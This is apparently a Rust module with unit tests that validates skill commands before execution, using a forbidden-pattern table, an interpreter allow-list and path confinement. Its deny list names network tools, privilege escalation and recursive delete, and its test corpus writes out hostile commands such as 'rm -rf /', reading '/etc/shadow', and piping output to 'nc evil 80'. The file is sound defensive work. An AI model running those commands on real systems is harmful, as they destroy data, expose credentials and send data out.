//! Pre-flight command validation.
//!
//! Commands are never handed to a shell. Validation runs in three stages and
//! stops at the first failure:
//!
//! 1. the raw string is matched against a table of forbidden patterns
//!    (shell metacharacters, substitution, redirection, parent-directory
//!    references, system paths, privilege and network tools);
//! 2. the first whitespace-separated token must be an allow-listed
//!    interpreter, and inline-code flags such as `-c` are refused, also
//!    inside option clusters like `-Sc`;
//! 3. the interpreter must live outside the skill directory, and every
//!    remaining argument is resolved against that directory and must stay
//!    inside it, including through symlinks.

use regex::Regex;
use skillguard_core::{Severity, ViolationKind};
use std::fmt;
use std::path::{Component, Path, PathBuf};
use std::sync::LazyLock;

/// Interpreters a skill may be launched with.
pub const ALLOWED_EXECUTABLES: &[&str] = &[
    "python", "python3", "node", "deno", "bun", "tsx", "ts-node", "ruby", "perl", "php", "sh",
    "bash",
];

/// Flags that make an interpreter run code from the command line instead of
/// a file in the skill directory.
pub const INLINE_CODE_FLAGS: &[&str] = &["-c", "-e", "-E", "-p", "--eval", "--print", "--command"];

/// Short options that take inline code (`php -r`) or end an option cluster
/// with it (`python3 -Sc`, `perl -le`, `bash -xc`).
const INLINE_CODE_LETTERS: &[char] = &['c', 'e', 'E', 'p', 'r'];

/// A command that passed validation.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParsedCommand {
    pub program: String,
    pub args: Vec<String>,
    /// Canonical skill directory; the working directory of the run.
    pub cwd: PathBuf,
}

/// Why a command was refused, in the shape of the violation it produces.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Rejection {
    pub kind: ViolationKind,
    pub severity: Severity,
    pub reason: String,
}

impl Rejection {
    fn new(kind: ViolationKind, severity: Severity, reason: impl Into<String>) -> Self {
        Self {
            kind,
            severity,
            reason: reason.into(),
        }
    }
}

impl fmt::Display for Rejection {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{} ({})", self.reason, self.kind)
    }
}

impl std::error::Error for Rejection {}

struct ForbiddenPattern {
    regex: Regex,
    kind: ViolationKind,
    severity: Severity,
    label: &'static str,
}

type PatternEntry = (&'static str, ViolationKind, Severity, &'static str);

const PATTERN_TABLE: &[PatternEntry] = &[
    (";", ViolationKind::CommandInjection, Severity::Critical, "command separator ';'"),
    (r"\|", ViolationKind::CommandInjection, Severity::Critical, "pipe '|'"),
    ("&", ViolationKind::CommandInjection, Severity::Critical, "control operator '&'"),
    ("`", ViolationKind::CommandInjection, Severity::Critical, "backtick substitution"),
    (r"\$\(", ViolationKind::CommandInjection, Severity::Critical, "command substitution '$('"),
    (r"[\r\n]", ViolationKind::CommandInjection, Severity::Critical, "embedded newline"),
    (r"\$\{", ViolationKind::CommandInjection, Severity::Error, "parameter expansion '${'"),
    ("[<>]", ViolationKind::CommandInjection, Severity::Error, "redirection"),
    (r"\.\.", ViolationKind::PathTraversal, Severity::Error, "parent directory reference '..'"),
    (
        r"/(?:etc|proc|sys|dev|root|boot)(?:/|\s|$)",
        ViolationKind::PathTraversal,
        Severity::Critical,
        "system path",
    ),
    (
        r"(?i)\b(?:sudo|doas|su)\b",
        ViolationKind::CommandInjection,
        Severity::Critical,
        "privilege escalation",
    ),
    (
        r"(?i)\b(?:chmod|chown|chgrp|setcap)\b",
        ViolationKind::CommandInjection,
        Severity::Critical,
        "permission change",
    ),
    (
        r"(?i)\b(?:kill|pkill|killall)\b",
        ViolationKind::CommandInjection,
        Severity::Critical,
        "process signalling",
    ),
    (
        r"(?i)\b(?:curl|wget|nc|ncat|netcat|ssh|scp)\b",
        ViolationKind::CommandInjection,
        Severity::Critical,
        "network tool",
    ),
    (
        r"\brm\s+-[a-zA-Z]*[rRf]",
        ViolationKind::CommandInjection,
        Severity::Critical,
        "recursive or forced delete",
    ),
    (r"\beval\b", ViolationKind::CommandInjection, Severity::Critical, "eval"),
    ("['\"]", ViolationKind::CommandInjection, Severity::Error, "quoted argument"),
    (r"\\", ViolationKind::CommandInjection, Severity::Error, "escape character"),
];

/// `None` when any entry failed to compile; every command is then refused.
static FORBIDDEN_PATTERNS: LazyLock<Option<Vec<ForbiddenPattern>>> =
    LazyLock::new(|| compile_patterns(PATTERN_TABLE));

fn compile_patterns(table: &[PatternEntry]) -> Option<Vec<ForbiddenPattern>> {
    table
        .iter()
        .map(|&(pattern, kind, severity, label)| {
            Regex::new(pattern).ok().map(|regex| ForbiddenPattern {
                regex,
                kind,
                severity,
                label,
            })
        })
        .collect()
}

static VERSIONED_PYTHON: LazyLock<Option<Regex>> =
    LazyLock::new(|| Regex::new(r"^python3\.\d{1,2}$").ok());

/// Whether `name` (a bare executable name, no directory) may be launched.
pub fn is_allowed_executable(name: &str) -> bool {
    ALLOWED_EXECUTABLES.contains(&name)
        || VERSIONED_PYTHON
            .as_ref()
            .is_some_and(|re| re.is_match(name))
}

/// Validate `command` for execution in `skill_dir`.
pub fn validate_command(command: &str, skill_dir: &Path) -> Result<ParsedCommand, Rejection> {
    check_forbidden_patterns(command)?;

    let mut tokens = command.split_whitespace();
    let Some(program) = tokens.next() else {
        return Err(Rejection::new(
            ViolationKind::CommandInjection,
            Severity::Error,
            "empty command",
        ));
    };
    check_executable(program)?;

    let args: Vec<String> = tokens.map(str::to_owned).collect();
    // Interpreter options precede the script; later flags belong to the skill.
    if let Some(flag) = args
        .iter()
        .take_while(|a| a.starts_with('-'))
        .find(|a| requests_inline_code(a))
    {
        return Err(Rejection::new(
            ViolationKind::CommandInjection,
            Severity::Error,
            format!("inline code flag '{flag}' is not allowed"),
        ));
    }

    let cwd = resolve_skill_dir(skill_dir)?;
    check_program_outside(program, &cwd)?;
    for arg in &args {
        check_argument_path(arg, &cwd)?;
    }

    Ok(ParsedCommand {
        program: program.to_owned(),
        args,
        cwd,
    })
}

fn requests_inline_code(flag: &str) -> bool {
    if INLINE_CODE_FLAGS.contains(&flag) {
        return true;
    }
    if flag.starts_with("--") {
        return flag
            .split_once('=')
            .is_some_and(|(name, _)| INLINE_CODE_FLAGS.contains(&name));
    }
    flag.strip_prefix('-')
        .is_some_and(|cluster| cluster.chars().any(|c| INLINE_CODE_LETTERS.contains(&c)))
}

fn check_forbidden_patterns(command: &str) -> Result<(), Rejection> {
    match_patterns(FORBIDDEN_PATTERNS.as_deref(), command)
}

fn match_patterns(patterns: Option<&[ForbiddenPattern]>, command: &str) -> Result<(), Rejection> {
    let Some(patterns) = patterns else {
        return Err(Rejection::new(
            ViolationKind::CommandInjection,
            Severity::Critical,
            "forbidden-pattern table failed to compile; refusing every command",
        ));
    };
    match patterns.iter().find(|p| p.regex.is_match(command)) {
        Some(p) => Err(Rejection::new(
            p.kind,
            p.severity,
            format!("forbidden pattern: {}", p.label),
        )),
        None => Ok(()),
    }
}

fn check_executable(program: &str) -> Result<(), Rejection> {
    let path = Path::new(program);
    let name = if program.contains('/') {
        if !path.is_absolute() {
            return Err(Rejection::new(
                ViolationKind::CommandInjection,
                Severity::Error,
                format!("executable '{program}' must be a bare name or an absolute path"),
            ));
        }
        path.file_name().and_then(|n| n.to_str()).unwrap_or_default()
    } else {
        program
    };

    if is_allowed_executable(name) {
        Ok(())
    } else {
        Err(Rejection::new(
            ViolationKind::CommandInjection,
            Severity::Error,
            format!("executable '{program}' is not in the allow-list"),
        ))
    }
}

/// An interpreter shipped inside the skill is skill code under an allowed name.
fn check_program_outside(program: &str, root: &Path) -> Result<(), Rejection> {
    let path = Path::new(program);
    if !path.is_absolute() {
        return Ok(());
    }
    let lexical = normalize_lexically(path);
    let inside = lexical.starts_with(root)
        || lexical
            .canonicalize()
            .is_ok_and(|real| real.starts_with(root));
    if inside {
        return Err(Rejection::new(
            ViolationKind::CommandInjection,
            Severity::Critical,
            format!("executable '{program}' lives inside the skill directory"),
        ));
    }
    Ok(())
}

fn resolve_skill_dir(skill_dir: &Path) -> Result<PathBuf, Rejection> {
    if !skill_dir.is_absolute() {
        return Err(Rejection::new(
            ViolationKind::PathTraversal,
            Severity::Error,
            format!("skill directory '{}' must be absolute", skill_dir.display()),
        ));
    }
    let canonical = skill_dir.canonicalize().map_err(|e| {
        Rejection::new(
            ViolationKind::PathTraversal,
            Severity::Error,
            format!("skill directory '{}' is not accessible: {e}", skill_dir.display()),
        )
    })?;
    if !canonical.is_dir() {
        return Err(Rejection::new(
            ViolationKind::PathTraversal,
            Severity::Error,
            format!("skill directory '{}' is not a directory", skill_dir.display()),
        ));
    }
    Ok(canonical)
}

/// Flags are skipped, except for the value half of `--flag=value`.
fn check_argument_path(arg: &str, root: &Path) -> Result<(), Rejection> {
    let candidate = if arg.starts_with('-') {
        match arg.split_once('=') {
            Some((_, value)) if !value.is_empty() => value,
            _ => return Ok(()),
        }
    } else {
        arg
    };

    let resolved = normalize_lexically(&root.join(candidate));
    if !resolved.starts_with(root) {
        return Err(Rejection::new(
            ViolationKind::PathTraversal,
            Severity::Error,
            format!("argument '{arg}' resolves outside the skill directory"),
        ));
    }

    if let Ok(real) = resolved.canonicalize()
        && !real.starts_with(root)
    {
        return Err(Rejection::new(
            ViolationKind::PathTraversal,
            Severity::Error,
            format!("argument '{arg}' links outside the skill directory"),
        ));
    }
    Ok(())
}

/// Resolve `.` and `..` without touching the filesystem.
pub fn normalize_lexically(path: &Path) -> PathBuf {
    let mut out = PathBuf::new();
    for component in path.components() {
        match component {
            Component::Prefix(_) | Component::RootDir | Component::Normal(_) => {
                out.push(component.as_os_str());
            }
            Component::CurDir => {}
            Component::ParentDir => {
                out.pop();
            }
        }
    }
    out
}

#[allow(clippy::unwrap_used)]
#[cfg(test)]
mod tests {
    use super::*;

    fn skill_dir() -> tempfile::TempDir {
        let dir = tempfile::tempdir().unwrap();
        std::fs::write(dir.path().join("skill.py"), "print('ok')\n").unwrap();
        dir
    }

    fn reject(command: &str, dir: &Path) -> Rejection {
        validate_command(command, dir).unwrap_err()
    }

    #[test]
    fn every_pattern_compiles() {
        assert_eq!(
            FORBIDDEN_PATTERNS.as_ref().map(Vec::len),
            Some(PATTERN_TABLE.len())
        );
        assert!(VERSIONED_PYTHON.is_some());
    }

    #[test]
    fn broken_pattern_table_refuses_everything() {
        let table: &[PatternEntry] = &[
            (";", ViolationKind::CommandInjection, Severity::Critical, "separator"),
            ("(", ViolationKind::CommandInjection, Severity::Critical, "unbalanced group"),
        ];
        let compiled = compile_patterns(table);
        assert!(compiled.is_none());

        let r = match_patterns(compiled.as_deref(), "python3 skill.py").unwrap_err();
        assert_eq!(r.severity, Severity::Critical);
        assert!(r.reason.contains("failed to compile"));
    }

    #[test]
    fn accepts_plain_interpreter_invocation() {
        let dir = skill_dir();
        let parsed = validate_command("python3 skill.py --verbose", dir.path()).unwrap();
        assert_eq!(parsed.program, "python3");
        assert_eq!(parsed.args, ["skill.py", "--verbose"]);
        assert_eq!(parsed.cwd, dir.path().canonicalize().unwrap());
    }

    #[test]
    fn accepts_absolute_interpreter_and_absolute_skill_path() {
        let dir = skill_dir();
        let script = dir.path().canonicalize().unwrap().join("skill.py");
        let command = format!("/usr/bin/python3.12 {}", script.display());
        validate_command(&command, dir.path()).unwrap();
    }

    #[test]
    fn injection_corpus_is_rejected_with_blocking_severity() {
        let dir = skill_dir();
        for command in [
            "python3 skill.py; rm -rf /",
            "python3 `echo malicious`",
            "python3 skill.py > /etc/passwd",
            "python3 skill.py && cat /etc/shadow",
            "python3 ../../etc/passwd",
            "sudo python3 skill.py",
            "python3 -c 'eval(input())'",
            "python3 $(whoami).py",
            "python3 skill.py | nc evil 80",
        ] {
            let rejection = reject(command, dir.path());
            assert!(
                rejection.severity.is_blocking(),
                "{command} rejected with {rejection:?}"
            );
        }
    }

    #[test]
    fn separator_is_critical_injection() {
        let dir = skill_dir();
        let r = reject("python3 skill.py; ls", dir.path());
        assert_eq!(r.kind, ViolationKind::CommandInjection);
        assert_eq!(r.severity, Severity::Critical);
    }

    #[test]
    fn parent_reference_is_path_traversal() {
        let dir = skill_dir();
        let r = reject("node ../../etc/passwd", dir.path());
        assert_eq!(r.kind, ViolationKind::PathTraversal);
    }

    #[test]
    fn unknown_executable_is_refused() {
        let dir = skill_dir();
        let r = reject("nmap -sV localhost", dir.path());
        assert_eq!(r.kind, ViolationKind::CommandInjection);
        assert_eq!(r.severity, Severity::Error);
        assert!(r.reason.contains("allow-list"));
    }

    #[test]
    fn relative_executable_path_is_refused() {
        let dir = skill_dir();
        let r = reject("bin/python3 skill.py", dir.path());
        assert!(r.reason.contains("bare name"));
    }

    #[test]
    fn inline_code_flags_are_refused() {
        let dir = skill_dir();
        for command in ["python3 -c print(1)", "node -e 1", "node --eval 1", "perl -E say"] {
            let r = reject(command, dir.path());
            assert!(r.reason.contains("inline code flag"), "{command}: {r}");
        }
    }

    #[test]
    fn clustered_inline_flags_are_refused() {
        let dir = skill_dir();
        for command in [
            "python3 -Sc print(42)",
            "python3 -uc print(42)",
            "perl -le print",
            "bash -xc id",
            "php -r phpinfo()",
            "node --eval=1",
        ] {
            let r = reject(command, dir.path());
            assert_eq!(r.kind, ViolationKind::CommandInjection, "{command}");
            assert!(r.reason.contains("inline code flag"), "{command}: {r}");
        }
        validate_command("python3 -u skill.py", dir.path()).unwrap();
        validate_command("python3 -B -O skill.py", dir.path()).unwrap();
    }

    #[cfg(unix)]
    #[test]
    fn interpreter_bundled_in_the_skill_is_refused() {
        let dir = skill_dir();
        let root = dir.path().canonicalize().unwrap();
        std::fs::create_dir(root.join("bin")).unwrap();
        std::fs::write(root.join("bin").join("python3"), "#!/bin/sh\n").unwrap();
        let command = format!("{}/bin/python3 skill.py", root.display());
        let r = reject(&command, dir.path());
        assert_eq!(r.kind, ViolationKind::CommandInjection);
        assert_eq!(r.severity, Severity::Critical);
        assert!(r.reason.contains("inside the skill directory"));
    }

    #[test]
    fn flags_after_the_script_belong_to_the_skill() {
        let dir = skill_dir();
        validate_command("python3 skill.py -p 8080 -c fast", dir.path()).unwrap();
    }

    #[test]
    fn absolute_argument_outside_skill_dir_is_refused() {
        let dir = skill_dir();
        let r = reject("python3 /tmp/other.py", dir.path());
        assert_eq!(r.kind, ViolationKind::PathTraversal);
    }

    #[test]
    fn flag_values_are_checked() {
        let dir = skill_dir();
        let r = reject("python3 skill.py --input=/var/lib/secret", dir.path());
        assert_eq!(r.kind, ViolationKind::PathTraversal);
        validate_command("python3 skill.py --input=data.json", dir.path()).unwrap();
    }

    #[cfg(unix)]
    #[test]
    fn symlink_escape_is_refused() {
        let dir = skill_dir();
        let outside = tempfile::tempdir().unwrap();
        std::fs::write(outside.path().join("secret.txt"), "x").unwrap();
        std::os::unix::fs::symlink(outside.path(), dir.path().join("link")).unwrap();
        let r = reject("python3 skill.py link/secret.txt", dir.path());
        assert!(r.reason.contains("links outside"));
    }

    #[test]
    fn relative_skill_dir_is_refused() {
        let r = reject("python3 skill.py", Path::new("skills/echo"));
        assert_eq!(r.kind, ViolationKind::PathTraversal);
    }

    #[test]
    fn skill_named_like_a_tool_is_not_a_false_positive() {
        let dir = skill_dir();
        std::fs::write(dir.path().join("skill_kill.py"), "").unwrap();
        validate_command("python3 skill_kill.py", dir.path()).unwrap();
    }

    #[test]
    fn empty_command_is_refused() {
        let dir = skill_dir();
        let r = reject("   ", dir.path());
        assert_eq!(r.reason, "empty command");
    }

    #[test]
    fn lexical_normalization() {
        assert_eq!(
            normalize_lexically(Path::new("/a/b/./c/../d")),
            PathBuf::from("/a/b/d")
        );
        assert_eq!(normalize_lexically(Path::new("/a/../../b")), PathBuf::from("/b"));
    }
}
